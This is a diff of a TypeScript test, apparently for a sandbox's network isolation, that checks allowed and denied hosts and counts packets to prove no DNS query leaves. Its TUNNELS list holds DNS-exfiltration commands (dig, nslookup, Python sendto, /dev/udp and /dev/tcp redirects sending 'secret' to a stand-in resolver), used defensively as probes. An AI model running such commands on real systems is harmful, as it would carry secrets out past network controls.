@@ -1,28 +1,96 @@
-/** Every client by itself in a sandbox with a network: the allowed host is reached, the other one is not. */
+/**
+ * Every client by itself in a sandbox with a network: the allowed host is reached, the other one is not. Where it can be had (root, tcpdump, ip), all of it in
+ * a network of its own whose every packet is counted: no query for a name leaves, nor does anything else.
+ */
 
 import assert from 'node:assert/strict';
-import { CLIENTS, noNetworkHere, startSandboxNetwork } from '../fixtures/sandbox-network.ts';
+import { spawn, spawnSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { join } from 'node:path';
+import { CLIENTS, noNetworkHere, type SandboxNetwork, startSandboxNetwork } from '../fixtures/sandbox-network.ts';
 
 if (noNetworkHere) throw new Error(noNetworkHere);
+const COUNTED = 'CODER_TEST_COUNTED';
+/** A way out that leads nowhere: what is sent to it can be seen. */
+const NETWORK = `
+ip link set lo up && ip link add out type veth peer name far && ip link set out arp off addrgenmode none && ip link set far addrgenmode none &&
+ip addr add 192.0.2.77/24 dev out && ip link set out up && ip link set far up && ip route add default via 192.0.2.1 && exec "$@"`;
+/** Ways to carry something out by asking for a name, past the session's own resolver. */
+const TUNNELS = [
+  'getent hosts secret-in-a-name.tunnel.test',
+  'dig +time=1 +tries=1 secret.tunnel.test @192.0.2.53',
+  'dig +time=1 +tries=1 +tcp secret.tunnel.test @192.0.2.53',
+  'nslookup -timeout=1 secret.tunnel.test 192.0.2.53',
+  "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'secret', ('192.0.2.53', 53))\"",
+  'echo secret > /dev/udp/192.0.2.53/53',
+  'echo secret > /dev/tcp/192.0.2.53/53',
+  "./node -e \"const r = new (require('dns').Resolver)({ timeout: 500, tries: 1 }); r.setServers(['192.0.2.53']); r.resolve('secret.tunnel.test', () => process.exit(0))\"",
+];
+
+const canCount = process.getuid?.() === 0 && ['tcpdump', 'ip', 'unshare'].every(isInstalled);
+if (canCount && process.env[COUNTED] === undefined) {
+  const argv = ['-n', 'sh', '-c', NETWORK, 'sh', process.execPath, ...process.argv.slice(1)];
+  const { status } = spawnSync('unshare', argv, { stdio: 'inherit', env: { ...process.env, [COUNTED]: '1' } });
+  process.exit(status ?? 1);
+}
+
+const folder = mkdtempSync('/var/tmp/coder-packets-');
 const network = await startSandboxNetwork(true);
 try {
   await network.sandbox.status();
-  for (const [name, { port, line, prints = /stand-in/ }] of Object.entries(CLIENTS)) {
-    if (!network.has(name)) {
-      console.log(`${name}: not installed`);
-      continue;
-    }
-    const reached = await network.run(line('allowed.test'), async (host) => host.name === 'allowed.test');
-    assert.match(reached.text, prints, name);
-    assert.deepEqual(reached.report?.reached, [`allowed.test:${port}`], name);
-    const before = network.dialled.length;
-    const refused = await network.run(line('denied.test'), async () => false);
-    assert.notEqual(refused.code, 0, name);
-    assert.deepEqual(refused.report?.refused, [`denied.test:${port}`], name);
-    assert.equal(network.dialled.length, before, name);
-    console.log(`${name}: reached by ${port}, refused elsewhere`);
-  }
+  const count = canCount ? await countPackets() : undefined;
+  for (const name of Object.keys(CLIENTS)) await tryClient(network, name);
+  for (const line of TUNNELS) await network.run(line, async () => false);
   assert.deepEqual(network.looked, []);
+  if (count) {
+    spawnSync('sh', ['-c', 'getent hosts control.tunnel.test'], { timeout: 3000 }); // from outside it is seen
+    const { names, all } = await count();
+    assert.ok(
+      names.some((row) => row.includes('control.tunnel.test')),
+      'a query that leaves would not be seen',
+    );
+    const others = all.filter((row) => !row.includes('control.tunnel.test'));
+    console.log(`${names.length - (all.length - others.length)} queries for names and ${others.length} packets left`);
+    assert.deepEqual(others, []);
+  }
 } finally {
   await network.close();
+  rmSync(folder, { recursive: true, force: true });
+}
+
+async function tryClient({ has, run, dialled }: SandboxNetwork, name: string): Promise<void> {
+  const { port = 0, line = () => '', prints = /stand-in/ } = CLIENTS[name] ?? {};
+  if (!has(name)) return console.log(`${name}: not installed`);
+  const reached = await run(line('allowed.test'), async (host) => host.name === 'allowed.test');
+  assert.match(reached.text, prints, name);
+  assert.deepEqual(reached.report?.reached, [`allowed.test:${port}`], name);
+  const before = dialled.length;
+  const refused = await run(line('denied.test'), async () => false);
+  assert.notEqual(refused.code, 0, name);
+  assert.deepEqual(refused.report?.refused, [`denied.test:${port}`], name);
+  assert.equal(dialled.length, before, name);
+  console.log(`${name}: reached by ${port}, refused elsewhere`);
+}
+
+/** All that goes to another machine, and of it what asks for a name. Stops when it is called. */
+async function countPackets(): Promise<() => Promise<{ names: string[]; all: string[] }>> {
+  const file = join(folder, 'packets');
+  const capture = spawn('tcpdump', ['-i', 'out', '-U', '-w', file], { stdio: ['ignore', 'ignore', 'pipe'] });
+  await new Promise((resolve) => capture.stderr.once('data', resolve)); // it listens
+  return async () => {
+    await new Promise((resolve) => setTimeout(resolve, 500)); // what was sent last is written
+    capture.kill('SIGINT');
+    await new Promise((resolve) => capture.once('exit', resolve));
+    assert.ok(readFileSync(file).length > 0);
+    const rows = (filter: string) =>
+      spawnSync('tcpdump', ['-n', '-r', file, ...(filter === '' ? [] : [filter])], { encoding: 'utf8' })
+        .stdout.trim()
+        .split('\n')
+        .filter(Boolean);
+    return { names: rows('port 53'), all: rows('') };
+  };
+}
+
+function isInstalled(name: string): boolean {
+  return spawnSync('sh', ['-c', `command -v ${name}`]).status === 0;
 }
